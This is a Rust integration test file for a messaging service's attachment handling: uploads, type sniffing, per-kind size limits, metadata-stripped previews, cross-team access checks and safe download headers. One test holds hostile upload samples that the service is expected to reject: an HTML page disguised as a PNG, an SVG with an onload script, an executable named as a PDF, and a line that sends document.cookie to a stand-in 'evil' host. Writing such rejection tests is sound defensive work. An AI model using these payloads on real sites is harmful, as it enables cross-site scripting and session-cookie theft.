//! Attachments end to end: uploads stream into content-addressed storage
//! with per-kind limits, the type comes from the content, images get a
//! small re-encoded preview, downloads check reach and carry headers that
//! keep a browser from running anything.

use std::path::Path;
use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};
use switchboard_testkit::client::{ApiClient, Reply, post_hook};
use switchboard_testkit::events::EventStream;
use switchboard_testkit::fixtures::Org;
use switchboard_testkit::media::{png, with_text};
use switchboard_testkit::{CallbackServer, TestApp};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const MB: usize = 1024 * 1024;

/// Every file under `dir` (the attachments folder), relative paths.
fn stored_files(dir: &Path) -> Vec<String> {
    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(base, &path, out);
            } else {
                out.push(path.strip_prefix(base).unwrap().display().to_string());
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

async fn upload(client: &ApiClient, org: &Org, conversation: &str, name: &str, bytes: Vec<u8>) -> Reply {
    let path = org.path(&format!(
        "/conversations/{conversation}/attachments?filename={}",
        url_escape(name)
    ));
    // The claimed type is deliberately wrong: the server reads the content.
    client
        .send_raw(Method::POST, &path, Some("application/octet-stream"), bytes)
        .await
}

fn url_escape(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// GET with the client's credentials, returning the raw bytes.
async fn download(
    client: &ApiClient,
    path: &str,
    headers: &[(&str, &str)],
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let mut req = client.http.get(format!("{}{}", client.base, path));
    if let Some(token) = &client.bearer {
        req = req.bearer_auth(token);
    }
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let response = req.send().await.expect("download");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    (status, headers, response.bytes().await.expect("body").to_vec())
}

fn h<'a>(headers: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
}

async fn messages(client: &ApiClient, org: &Org, conversation: &str) -> Vec<Value> {
    let reply = client
        .get(&org.path(&format!("/conversations/{conversation}/messages?limit=200")))
        .await;
    assert_eq!(reply.status, 200, "{:?}", reply.body);
    reply["items"].as_array().unwrap().clone()
}

async fn conversation(app: &TestApp, org: &Org, id: &str) -> String {
    org.customer_says(
        app,
        &format!("att-{id}"),
        &format!("customer-{id}"),
        "I'll send a photo",
    )
    .await["conversation_id"]
        .as_str()
        .unwrap()
        .to_owned()
}

async fn attachment_rows(app: &TestApp, conversation: &str) -> i64 {
    app.services
        .store()
        .reader()
        .count_attachments(conversation.parse().unwrap())
        .await
        .unwrap()
}

#[tokio::test]
async fn an_image_is_uploaded_listed_with_its_message_and_downloaded_with_safe_headers() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "1").await;
    let mut events = EventStream::connect(&app, &org.agent, &org.ws, None)
        .await
        .expect("event stream");

    // Bigger than the server's JSON body limit (64 KiB in tests): uploads
    // are not capped by it.
    let image = png(120, 200, 0);
    assert!(image.len() > 64 * 1024);
    let reply = upload(&org.agent, &org, &conv, "Foto do pedido ção.png", image.clone()).await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
    assert_eq!(reply["kind"], "media");
    assert_eq!(reply["sender_id"], org.agent_id.as_str());
    assert_eq!(
        reply["delivery_status"], "queued",
        "on an API channel a file goes out through the outbox (delivery.rs follows it to the receiver)"
    );
    let att = reply["attachments"][0].clone();
    assert_eq!(att["kind"], "image");
    assert_eq!(att["mime"], "image/png");
    assert_eq!(att["filename"], "Foto do pedido ção.png");
    assert_eq!(att["size"], image.len());
    assert_eq!((att["width"].as_i64(), att["height"].as_i64()), (Some(120), Some(200)));
    let sha = att["sha256"].as_str().unwrap().to_owned();
    assert_eq!(sha.len(), 64);
    assert!(att.get("storage_key").is_none(), "the storage key stays inside");
    let url = att["url"].as_str().unwrap().to_owned();
    assert_eq!(url, org.path(&format!("/attachments/{}", att["id"].as_str().unwrap())));
    assert_eq!(att["preview_url"], format!("{url}/preview"), "images have a preview");

    // Stored once, content-addressed, beside its preview.
    let files = stored_files(app.attachments.path());
    assert_eq!(files.len(), 2, "{files:?}");
    assert!(
        files.contains(&format!("{}/{}/{sha}", &sha[..2], &sha[2..4])),
        "{files:?}"
    );

    // Published like any new message, with the attachment.
    let event = events
        .next_of("message.created", Duration::from_secs(5))
        .await
        .expect("message.created");
    assert_eq!(event["data"]["id"], reply["id"]);
    assert_eq!(event["data"]["attachments"][0]["id"], att["id"]);

    // In the message list, with the attachment; other messages keep their shape.
    let list = messages(&org.agent, &org, &conv).await;
    let media = list.iter().find(|m| m["id"] == reply["id"]).expect("listed");
    assert_eq!(media["kind"], "media");
    assert_eq!(media["attachments"][0]["id"], att["id"]);
    let text = list.iter().find(|m| m["kind"] == "text").unwrap();
    assert_eq!(text["body"], "I'll send a photo");
    assert_eq!(text["attachments"], json!([]));

    // Downloaded byte for byte, inline (an image), never sniffed.
    let (status, headers, body) = download(&org.agent, &url, &[]).await;
    assert_eq!(status, 200);
    assert_eq!(body, image);
    assert_eq!(h(&headers, "content-type"), "image/png");
    assert_eq!(h(&headers, "content-length"), image.len().to_string());
    assert_eq!(
        h(&headers, "content-disposition"),
        "inline; filename=\"Foto do pedido __o.png\"; filename*=UTF-8''Foto%20do%20pedido%20%C3%A7%C3%A3o.png"
    );
    assert_eq!(h(&headers, "x-content-type-options"), "nosniff");
    assert!(h(&headers, "content-security-policy").starts_with("sandbox"));
    assert_eq!(h(&headers, "etag"), format!("\"{sha}\""));
    // Forced download.
    let (_, headers, _) = download(&org.agent, &format!("{url}?download=true"), &[]).await;
    assert!(h(&headers, "content-disposition").starts_with("attachment; "));
    // Revalidation.
    let (status, _, body) = download(&org.agent, &url, &[("if-none-match", &format!("\"{sha}\""))]).await;
    assert_eq!((status, body.len()), (304, 0));

    // Documents are downloads, with their sniffed type.
    let pdf = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n".to_vec();
    let reply = upload(&org.agent, &org, &conv, "invoice.txt", pdf.clone()).await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
    let att = &reply["attachments"][0];
    assert_eq!(
        (att["kind"].as_str(), att["mime"].as_str()),
        (Some("document"), Some("application/pdf"))
    );
    assert_eq!(att["preview_url"], Value::Null);
    let (status, headers, body) = download(&org.admin, att["url"].as_str().unwrap(), &[]).await;
    assert_eq!((status, body), (200, pdf));
    assert_eq!(h(&headers, "content-type"), "application/pdf");
    assert!(h(&headers, "content-disposition").starts_with("attachment; filename=\"invoice.txt\""));
    assert_eq!(h(&headers, "x-content-type-options"), "nosniff");
    assert!(h(&headers, "content-security-policy").starts_with("sandbox"));

    // CSV is text, served as text/csv and as a download; a caption travels along.
    let path = org.path(&format!(
        "/conversations/{conv}/attachments?filename=orders.csv&caption=Your%20orders"
    ));
    let reply = org
        .agent
        .send_raw(
            Method::POST,
            &path,
            Some("text/csv"),
            b"order,total\n1001,25.00\n".to_vec(),
        )
        .await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
    assert_eq!(reply["body"], "Your orders");
    assert_eq!(reply["attachments"][0]["mime"], "text/csv; charset=utf-8");
    let (_, headers, _) = download(&org.agent, reply["attachments"][0]["url"].as_str().unwrap(), &[]).await;
    assert_eq!(h(&headers, "content-type"), "text/csv; charset=utf-8");
    assert!(h(&headers, "content-disposition").starts_with("attachment; "));
}

/// A photo-like PNG (a smooth gradient, compressed as cameras and editors
/// do), `width`×`height`.
fn photo(width: u32, height: u32) -> Vec<u8> {
    let pixels = image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x * 255 / width) as u8, (y * 255 / height) as u8, 140])
    });
    let mut out = std::io::Cursor::new(Vec::new());
    pixels.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

#[tokio::test]
async fn a_large_image_gets_a_small_re_encoded_preview_and_its_original_stays_as_sent() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "preview").await;
    // Where it was taken, as phones write it into the file.
    let image = with_text(&photo(1600, 1200), "GPSPosition", "48.858370 N, 2.294481 E");
    let reply = upload(&org.agent, &org, &conv, "holiday.png", image.clone()).await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
    let att = reply["attachments"][0].clone();
    let url = att["url"].as_str().unwrap().to_owned();
    let preview_url = format!("{url}/preview");
    assert_eq!(att["preview_url"], preview_url.as_str());
    assert_eq!(
        (att["width"].as_i64(), att["height"].as_i64()),
        (Some(1600), Some(1200))
    );
    let listed = messages(&org.agent, &org, &conv).await;
    let media = listed.iter().find(|m| m["id"] == reply["id"]).expect("listed");
    assert_eq!(media["attachments"][0]["preview_url"], preview_url.as_str());

    // The preview: a JPEG of at most 480 px a side with the photo's aspect
    // ratio, served inline with the download's safe headers, without the
    // file's metadata.
    let (status, headers, body) = download(&org.agent, &preview_url, &[]).await;
    assert_eq!(status, 200);
    assert_eq!(h(&headers, "content-type"), "image/jpeg");
    assert_eq!(h(&headers, "content-length"), body.len().to_string());
    assert_eq!(h(&headers, "x-content-type-options"), "nosniff");
    assert!(h(&headers, "content-security-policy").starts_with("sandbox"));
    assert!(h(&headers, "content-disposition").starts_with("inline; filename=\"holiday.jpg\""));
    let decoded = image::load_from_memory_with_format(&body, image::ImageFormat::Jpeg).expect("a JPEG");
    assert_eq!((decoded.width(), decoded.height()), (480, 360));
    let gps = b"48.858370";
    assert!(image.windows(gps.len()).any(|w| w == gps));
    assert!(!body.windows(gps.len()).any(|w| w == gps), "metadata is dropped");
    let etag = h(&headers, "etag").to_owned();
    assert!(
        etag.len() == 66 && etag != format!("\"{}\"", att["sha256"].as_str().unwrap()),
        "{etag}"
    );
    let (status, _, body) = download(&org.agent, &preview_url, &[("if-none-match", &etag)]).await;
    assert_eq!((status, body.len()), (304, 0));

    // The file itself is untouched.
    let (status, headers, body) = download(&org.agent, &url, &[]).await;
    assert_eq!((status, h(&headers, "content-type")), (200, "image/png"));
    assert!(body == image, "the original comes back byte for byte");
}

/// The same bytes uploaded again reuse the preview made the first time
/// instead of decoding the image again. To tell reuse from a new preview
/// with the same bytes, the first record's preview type is changed behind
/// the service's back: a reused preview is served with it.
#[tokio::test]
async fn the_same_image_uploaded_again_reuses_its_preview() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "again").await;
    let image = photo(900, 600);
    let first = upload(&org.agent, &org, &conv, "first.png", image.clone()).await;
    assert_eq!(first.status, 201, "{:?}", first.body);
    let first_id = first["attachments"][0]["id"].as_str().unwrap().to_owned();
    let marked = format!("UPDATE attachments SET preview_mime = 'image/png' WHERE id = '{first_id}'");
    app.execute_raw(&marked).await;

    let again = upload(&org.agent, &org, &conv, "again.png", image).await;
    assert_eq!(again.status, 201, "{:?}", again.body);
    let preview = format!("{}/preview", again["attachments"][0]["url"].as_str().unwrap());
    let (status, headers, _) = download(&org.agent, &preview, &[]).await;
    assert_eq!(
        (status, h(&headers, "content-type")),
        (200, "image/png"),
        "the first preview, reused"
    );
    assert_eq!(stored_files(app.attachments.path()).len(), 2, "one file, one preview");
}

#[tokio::test]
async fn an_image_that_does_not_decode_is_kept_without_a_preview() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "broken").await;
    let mut broken = png(300, 300, 0);
    broken.truncate(broken.len() / 3);
    let reply = upload(&org.agent, &org, &conv, "broken.png", broken.clone()).await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
    let att = &reply["attachments"][0];
    assert_eq!(
        (att["kind"].as_str(), att["mime"].as_str()),
        (Some("image"), Some("image/png"))
    );
    assert_eq!(att["preview_url"], Value::Null);
    let url = att["url"].as_str().unwrap();
    let (status, _, _) = download(&org.agent, &format!("{url}/preview"), &[]).await;
    assert_eq!(status, 404);
    let (status, _, body) = download(&org.agent, url, &[]).await;
    assert_eq!((status, body), (200, broken));
    assert_eq!(stored_files(app.attachments.path()).len(), 1, "no preview stored");

    // Documents never have one.
    let pdf = b"%PDF-1.4\n%%EOF\n".to_vec();
    let reply = upload(&org.agent, &org, &conv, "a.pdf", pdf).await;
    let url = reply["attachments"][0]["url"].as_str().unwrap();
    assert_eq!(download(&org.agent, &format!("{url}/preview"), &[]).await.0, 404);
}

/// Send a chunked upload by hand (no Content-Length, so the server can only
/// find out while reading) and return the status and body of the answer.
async fn chunked_upload(app: &TestApp, client: &ApiClient, path: &str, body: &[u8]) -> (u16, String) {
    let mut socket = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {}\r\nCookie: {}\r\nX-CSRF-Token: {}\r\nContent-Type: image/png\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        app.addr,
        client.session_cookie.as_deref().unwrap(),
        client.csrf.as_deref().unwrap()
    );
    socket.write_all(head.as_bytes()).await.unwrap();
    let (mut reader, mut writer) = socket.into_split();
    let body = body.to_vec();
    let sender = tokio::spawn(async move {
        for piece in body.chunks(64 * 1024) {
            let frame = [format!("{:x}\r\n", piece.len()).as_bytes(), piece, b"\r\n"].concat();
            if writer.write_all(&frame).await.is_err() {
                return;
            }
        }
        let _ = writer.write_all(b"0\r\n\r\n").await;
    });
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), reader.read_to_end(&mut answer)).await;
    sender.abort();
    let text = String::from_utf8_lossy(&answer).into_owned();
    let status = text.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
    (status, text)
}

/// Announce `declared` bytes, send only `sent`, and wait for the answer
/// without sending the rest.
async fn announced_upload(app: &TestApp, client: &ApiClient, path: &str, declared: usize, sent: &[u8]) -> String {
    let mut socket = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {}\r\nCookie: {}\r\nX-CSRF-Token: {}\r\nContent-Type: image/png\r\nContent-Length: {declared}\r\n\r\n",
        app.addr,
        client.session_cookie.as_deref().unwrap(),
        client.csrf.as_deref().unwrap()
    );
    socket.write_all(head.as_bytes()).await.unwrap();
    socket.write_all(sent).await.unwrap();
    let mut answer = vec![0; 4096];
    let n = tokio::time::timeout(Duration::from_secs(10), socket.read(&mut answer))
        .await
        .expect("answered before the rest of the body")
        .unwrap();
    String::from_utf8_lossy(&answer[..n]).into_owned()
}

#[tokio::test]
async fn an_image_over_5_mb_is_refused_with_the_limit_and_nothing_is_stored() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "2").await;
    let before = messages(&org.agent, &org, &conv).await.len();

    // Announced with Content-Length.
    let big = png(16, 16, 6 * MB);
    let reply = upload(&org.agent, &org, &conv, "big.png", big.clone()).await;
    assert_eq!(reply.status, 413, "{:?}", reply.body);
    assert_eq!(reply.code(), "payload_too_large");
    let message = reply.body["error"]["message"].as_str().unwrap();
    assert!(message.contains("5 MB"), "{message}");
    assert!(message.contains("images"), "{message}");

    // Streamed without a length: stopped while reading.
    let path = org.path(&format!("/conversations/{conv}/attachments?filename=big.png"));
    let (status, text) = chunked_upload(&app, &org.agent, &path, &big).await;
    assert_eq!(status, 413, "{text}");
    assert!(text.contains("5 MB"), "{text}");

    // Announced as too large: refused as soon as the type is known, without
    // waiting for the rest of the body.
    let answer = announced_upload(&app, &org.agent, &path, big.len(), &big[..8192]).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("5 MB"), "{answer}");

    // Nothing stored: no row, no message, no object (not even a partial one).
    assert_eq!(attachment_rows(&app, &conv).await, 0);
    assert_eq!(messages(&org.agent, &org, &conv).await.len(), before);
    assert_eq!(stored_files(app.attachments.path()), Vec::<String>::new());

    // Just under the limit is fine, and the server is still serving.
    let fits = png(16, 16, 5 * MB - 2048);
    assert!(fits.len() <= 5 * MB);
    let reply = upload(&org.agent, &org, &conv, "fits.png", fits).await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
}

#[tokio::test]
async fn html_named_png_svg_and_programs_are_refused() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "3").await;
    let before = messages(&org.agent, &org, &conv).await.len();
    let cases: [(&str, &[u8]); 5] = [
        (
            "cat.png",
            b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>",
        ),
        (
            "logo.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><circle r=\"4\"/></svg>",
        ),
        ("data.xml", b"<?xml version=\"1.0\"?><order id=\"1\"/>"),
        ("notes.txt", b"const token = document.cookie; fetch('//evil/' + token)"),
        ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"),
    ];
    for (name, bytes) in cases {
        let reply = upload(&org.agent, &org, &conv, name, bytes.to_vec()).await;
        assert_eq!(
            (reply.status.as_u16(), reply.code()),
            (422, "unsupported_type"),
            "{name}: {:?}",
            reply.body
        );
        assert!(
            reply.body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("allowed are images"),
            "the message says what is allowed"
        );
    }
    // Text that turns binary after the first bytes is refused too.
    let mut sneaky = "harmless text\n".repeat(1000).into_bytes();
    sneaky.extend_from_slice(b"\0\x01binary");
    let reply = upload(&org.agent, &org, &conv, "log.txt", sneaky).await;
    assert_eq!((reply.status.as_u16(), reply.code()), (422, "unsupported_type"));
    // An empty file is not a file.
    let reply = upload(&org.agent, &org, &conv, "empty.png", Vec::new()).await;
    assert_eq!((reply.status.as_u16(), reply.code()), (422, "invalid_input"));

    assert_eq!(attachment_rows(&app, &conv).await, 0);
    assert_eq!(messages(&org.agent, &org, &conv).await.len(), before);
    assert_eq!(stored_files(app.attachments.path()), Vec::<String>::new());
}

#[tokio::test]
async fn another_teams_agent_can_neither_upload_nor_download() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let sales = org.admin.post(&org.path("/teams"), json!({"name": "Sales"})).await;
    let callback = CallbackServer::start().await;
    let channel = org
        .admin
        .post(
            &org.path("/channels"),
            json!({"kind": "api", "name": "Sales line", "default_team_id": sales["id"], "callback_url": callback.url()}),
        )
        .await;
    let hook = post_hook(
        &app,
        channel["id"].as_str().unwrap(),
        channel["secret"].as_str().unwrap(),
        &json!({"message_id": "s-1", "contact": {"id": "lead-1"}, "text": "price?"}),
    )
    .await;
    let sales_conv = hook["conversation_id"].as_str().unwrap().to_owned();
    let image = png(4, 4, 0);
    let theirs = upload(&org.admin, &org, &sales_conv, "quote.png", image.clone()).await;
    assert_eq!(theirs.status, 201, "{:?}", theirs.body);
    let url = theirs["attachments"][0]["url"].as_str().unwrap().to_owned();

    // The Support agent: 404 on both, whatever the body.
    let reply = upload(&org.agent, &org, &sales_conv, "x.png", image.clone()).await;
    assert_eq!((reply.status.as_u16(), reply.code()), (404, "not_found"));
    let reply = upload(&org.agent, &org, &sales_conv, "x.png", png(16, 16, 6 * MB)).await;
    assert_eq!(
        (reply.status.as_u16(), reply.code()),
        (404, "not_found"),
        "reach before size"
    );
    let preview = theirs["attachments"][0]["preview_url"].as_str().unwrap().to_owned();
    for path in [&url, &preview] {
        let (status, _, body) = download(&org.agent, path, &[]).await;
        assert_eq!(status, 404, "{path}");
        assert!(
            !body.starts_with(b"\x89PNG") && !body.starts_with(b"\xFF\xD8"),
            "{path}"
        );
    }
    // Another workspace's admin: 404 too, even with our workspace in the path.
    let (other, other_ws) = app.other_workspace("olga@other.test").await;
    for path in [&url, &preview] {
        let (status, _, _) = download(&other, path, &[]).await;
        assert_eq!(status, 404, "{path}");
        let (status, _, _) = download(&other, &path.replace(&org.ws, &other_ws.to_string()), &[]).await;
        assert_eq!(status, 404, "{path}");
    }
    // The admin reaches both.
    assert_eq!(download(&org.admin, &url, &[]).await.0, 200);
    assert_eq!(download(&org.admin, &preview, &[]).await.0, 200);
    assert_eq!(attachment_rows(&app, &sales_conv).await, 1);
}

#[tokio::test]
async fn a_workspace_can_set_lower_limits() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "4").await;
    let limits = org.agent.get(&org.path("/attachment-limits")).await;
    assert_eq!(limits.status, 200);
    assert_eq!(
        limits.body,
        json!({"image": 5 * MB, "video": 16 * MB, "audio": 16 * MB, "document": 100 * MB})
    );

    // Only admins change them, within 1 byte and the server's maximum.
    let reply = org
        .agent
        .put(&org.path("/attachment-limits"), json!({"image": 1024}))
        .await;
    assert_eq!((reply.status.as_u16(), reply.code()), (403, "forbidden"));
    for bad in [json!({"image": 0}), json!({"pictures": 1})] {
        let reply = org.admin.put(&org.path("/attachment-limits"), bad.clone()).await;
        assert_eq!((reply.status.as_u16(), reply.code()), (422, "invalid_input"), "{bad}");
    }
    // Above what this server takes: the request does not fit its configuration.
    let bad = json!({"document": 101 * MB});
    let reply = org.admin.put(&org.path("/attachment-limits"), bad.clone()).await;
    assert_eq!((reply.status.as_u16(), reply.code()), (409, "conflict"), "{bad}");
    assert_eq!(reply.body["error"]["field"], "document");
    let reply = org
        .admin
        .put(&org.path("/attachment-limits"), json!({"image": 2048, "document": 64}))
        .await;
    assert_eq!(reply.status, 200, "{:?}", reply.body);
    assert_eq!(reply["image"], 2048);
    assert_eq!(reply["video"], 16 * MB, "unset kinds keep the default");

    let reply = upload(&org.agent, &org, &conv, "small.png", png(16, 16, 4096)).await;
    assert_eq!((reply.status.as_u16(), reply.code()), (413, "payload_too_large"));
    assert!(reply.body["error"]["message"].as_str().unwrap().contains("2 KB"));
    let reply = upload(
        &org.agent,
        &org,
        &conv,
        "a.txt",
        "more than sixty-four bytes of plain text. ".repeat(3).into_bytes(),
    )
    .await;
    assert_eq!(reply.status, 413);
    assert!(
        reply.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("documents are limited to 64 bytes")
    );
    assert_eq!(
        upload(&org.agent, &org, &conv, "tiny.png", png(2, 2, 0)).await.status,
        201
    );

    // Back to the defaults.
    let reply = org
        .admin
        .put(
            &org.path("/attachment-limits"),
            json!({"image": null, "document": null}),
        )
        .await;
    assert_eq!(reply["image"], 5 * MB);
    let reply = upload(&org.agent, &org, &conv, "small.png", png(16, 16, 4096)).await;
    assert_eq!(reply.status, 201, "{:?}", reply.body);
}

#[tokio::test]
async fn the_same_file_twice_is_stored_once_but_gives_two_attachments() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "5").await;
    let image = png(10, 10, 1000);
    let first = upload(&org.agent, &org, &conv, "a.png", image.clone()).await;
    let second = upload(&org.admin, &org, &conv, "b.png", image.clone()).await;
    assert_eq!((first.status.as_u16(), second.status.as_u16()), (201, 201));
    let (a, b) = (&first["attachments"][0], &second["attachments"][0]);
    assert_ne!(a["id"], b["id"]);
    assert_ne!(first["id"], second["id"], "two messages");
    assert_eq!(a["sha256"], b["sha256"]);
    assert_eq!(
        (a["filename"].as_str(), b["filename"].as_str()),
        (Some("a.png"), Some("b.png"))
    );
    assert_eq!(
        stored_files(app.attachments.path()).len(),
        2,
        "one object and one preview"
    );
    assert_eq!(attachment_rows(&app, &conv).await, 2);
    for att in [a, b] {
        let (status, _, body) = download(&org.agent, att["url"].as_str().unwrap(), &[]).await;
        assert_eq!((status, body.len()), (200, image.len()));
    }
    let media: Vec<Value> = messages(&org.agent, &org, &conv)
        .await
        .into_iter()
        .filter(|m| m["kind"] == "media")
        .collect();
    assert_eq!(media.len(), 2);
}

#[tokio::test]
async fn a_customer_file_takes_the_same_path_as_an_incoming_media_message() {
    let app = TestApp::spawn().await;
    let org = Org::create(&app).await;
    let conv = conversation(&app, &org, "6").await;
    let before = org.admin.get(&org.path(&format!("/conversations/{conv}"))).await;
    let contact: switchboard_core::ContactId = before["contact_id"].as_str().unwrap().parse().unwrap();
    let ws: switchboard_core::WorkspaceId = org.ws.parse().unwrap();

    // What the widget will do once it has checked the visitor's conversation.
    let image = png(8, 8, 0);
    let mut body = futures::stream::iter(vec![
        Ok(bytes::Bytes::copy_from_slice(&image[..10])),
        Ok(bytes::Bytes::copy_from_slice(&image[10..])),
    ]);
    let view = app
        .services
        .store_attachment(
            ws,
            conv.parse().unwrap(),
            switchboard_service::Uploader::Contact(contact),
            switchboard_service::Upload {
                filename: Some("receipt.png".into()),
                caption: None,
                declared_size: None,
                body: &mut body,
            },
        )
        .await
        .expect("stored");
    assert_eq!(view.attachments.len(), 1);

    let list = messages(&org.agent, &org, &conv).await;
    let media = list.iter().find(|m| m["kind"] == "media").expect("listed");
    assert_eq!(
        (media["direction"].as_str(), media["sender_kind"].as_str()),
        (Some("in"), Some("contact"))
    );
    assert_eq!(media["sender_id"], contact.to_string().as_str());
    assert_eq!(media["attachments"][0]["filename"], "receipt.png");
    let (status, _, bytes) = download(&org.agent, media["attachments"][0]["url"].as_str().unwrap(), &[]).await;
    assert_eq!((status, bytes), (200, image));
    // It counts as the customer's message (it drives the messaging window).
    let after = org.admin.get(&org.path(&format!("/conversations/{conv}"))).await;
    assert!(after["last_customer_message_at"].as_i64() >= before["last_customer_message_at"].as_i64());
    assert_eq!(after["last_message_at"], media["created_at"]);

    // A conversation of another workspace is not found, before any byte is read.
    let (_, other_ws) = app.other_workspace("olga@other.test").await;
    let mut untouched = futures::stream::iter(vec![Ok(bytes::Bytes::from_static(b"never read"))]);
    let err = app
        .services
        .store_attachment(
            other_ws,
            conv.parse().unwrap(),
            switchboard_service::Uploader::Contact(contact),
            switchboard_service::Upload {
                filename: None,
                caption: None,
                declared_size: None,
                body: &mut untouched,
            },
        )
        .await
        .unwrap_err();
    assert!(matches!(err, switchboard_service::ServiceError::NotFound(_)), "{err:?}");
    use futures::StreamExt;
    assert!(untouched.next().await.is_some(), "the body was not read");
}
